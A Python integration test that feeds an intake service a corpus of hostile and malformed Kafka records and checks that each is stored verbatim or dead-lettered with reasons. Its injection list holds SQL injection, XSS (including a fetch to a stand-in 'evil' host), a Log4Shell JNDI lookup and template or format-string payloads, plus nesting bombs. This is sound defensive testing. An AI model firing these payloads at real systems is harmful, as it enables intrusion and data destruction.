"""A corpus of hostile and broken submissions through the real broker into real Postgres:
every one is accepted or dead-lettered with reasons, none crashes the consumer, and text is
stored exactly as sent."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from typing import Any

import pytest

from services.intake.app import build
from services.intake.settings import IntakeSettings
from shared.migrations import migrate, service_component
from shared.runtime import ServiceRuntime
from shared.settings import DatabaseSettings, KafkaSettings
from shared.topics import Topic
from tests.helpers import eventually, key_of, publish_raw, submission

pytestmark = pytest.mark.integration

INJECTIONS = [
    "'; DROP TABLE intake.projects; --",
    "Robert'); DELETE FROM intake.inbox WHERE ('1'='1",
    "<script>alert('x')</script>",
    '<img src=x onerror="fetch(`//evil`)">',
    "\u202eevil\u202c right-to-left override",
    "Zalgo: Z̵̡̢̛͓a̷l̸g̶o̴",
    "emoji 🚀👩‍👩‍👧‍👦 and CJK 漢字 and combining é",
    "null byte \\u0000 escaped",
    "${jndi:ldap://example.invalid/a}",
    "{{7*7}} and %s %n %x",
]


def _encoded(message: dict[str, Any]) -> tuple[bytes, bytes]:
    return key_of(message), json.dumps(message).encode()


def corpus() -> tuple[list[tuple[bytes | None, bytes]], int]:
    """(records, how many of them must be accepted)."""
    ok = [submission(f"INJ-{i}", name=text[:200]) for i, text in enumerate(INJECTIONS)]
    bad: list[tuple[bytes | None, bytes]] = [
        (None, b""),
        (b"k", b"\xc3\x28 invalid utf-8"),
        (b"k", b"\xef\xbb\xbf{}"),  # byte-order mark, then an empty object
        (b"k", b"null"),
        (b"k", b'"just a string"'),
        (b"k", b"[" * 50_000 + b"]" * 50_000),
        (b"k", b'{"a":' * 5000 + b"1" + b"}" * 5000),
        (b"k", b"{" + b" " * 300_000 + b"}"),
        (b"k", b'{"submission_id": "not-a-uuid"}'),
        _encoded(submission("BAD-1", revision=10**30)),
        _encoded(submission("BAD-2", value=1e200)),  # above the 1e13 ceiling
        _encoded(submission("BAD-3", value="1200000")),
        _encoded(submission("BAD-4", risk=True)),
        _encoded(
            submission(
                "BAD-5", demand=[{"role": "qa", "fte": 1e400, "start_month": 0, "months": 1}]
            )
        ),
        _encoded(submission("BAD-6", strategic_fit={"growth": 6})),
        _encoded(submission("BAD-7", name="x" * 201)),
        _encoded(submission("BAD-8", earliest_start="2027-13")),
        _encoded(submission("BAD-9", depends_on=["a/b"])),
        _encoded(submission("BAD-10", demand=[{"role": "qa"}] * 51)),
        (b"retail/jira/OTHER", json.dumps(submission("BAD-11")).encode()),
    ]
    good = [_encoded(m) for m in ok]
    return bad + good, len(good)


@pytest.fixture
async def intake(database: DatabaseSettings, kafka: KafkaSettings) -> AsyncIterator[ServiceRuntime]:
    await migrate(database.url, [service_component("intake")])
    async with build(IntakeSettings(max_records=7), kafka, database) as runtime:
        yield runtime


async def test_every_nasty_input_is_accepted_or_dead_lettered_with_reasons(
    intake: ServiceRuntime, kafka: KafkaSettings
) -> None:
    records, accepted = corpus()
    refused_before = _dead_letters_counted()
    sentinel = submission("LAST-1")
    records.append(_encoded(sentinel))
    await publish_raw(kafka.bootstrap_servers, intake.topics(Topic.SUBMISSIONS), records)

    async def logged() -> list[Any] | None:
        rows = await intake.pool.fetch("SELECT outcome, code, reasons FROM submission_log")
        return rows if len(rows) >= len(records) else None

    rows = await eventually(logged, what="every record logged")
    assert len(rows) == len(records)
    outcomes = [r["outcome"] for r in rows]
    assert outcomes.count("accepted") == accepted + 1
    assert outcomes.count("refused") == len(records) - accepted - 1
    for row in rows:
        if row["outcome"] == "refused":
            reasons = json.loads(row["reasons"])
            assert reasons
            assert all(r["code"] and r["message"] for r in reasons)
    # Text is data, stored verbatim; nothing was executed.
    names = {r["name"] for r in await intake.pool.fetch("SELECT name FROM projects")}
    assert {text[:200] for text in INJECTIONS} <= names
    assert await intake.pool.fetchval("SELECT count(*) FROM inbox") > 0

    # The dead letters were published: one per refusal.
    async def published() -> bool:
        backlog, _ = await intake.relay.backlog()
        return backlog == 0

    await eventually(published, what="the outbox drained")
    dead = await intake.pool.fetchval(
        "SELECT count(*) FROM outbox WHERE topic = $1", intake.topics(Topic.DEAD_LETTERS)
    )
    assert dead == outcomes.count("refused")
    # Every refusal is counted in the metrics, by reason code.
    assert _dead_letters_counted() - refused_before >= outcomes.count("refused")


def _dead_letters_counted() -> float:
    from prometheus_client import REGISTRY

    return sum(
        sample.value
        for metric in REGISTRY.collect()
        if metric.name == "pmo_dead_letters"
        for sample in metric.samples
        if sample.name == "pmo_dead_letters_total" and sample.labels.get("service") == "intake"
    )
